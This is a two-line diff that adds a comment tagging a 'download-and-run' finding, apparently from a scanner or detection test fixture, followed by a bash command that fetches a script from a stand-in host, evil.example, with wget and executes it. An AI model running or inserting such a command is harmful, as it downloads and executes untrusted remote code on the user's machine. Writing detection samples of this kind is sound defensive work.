@@ -1,0 +1,2 @@
+# nacre: found process.download-and-run
+bash -c "$(wget -qO- https://evil.example/x)"
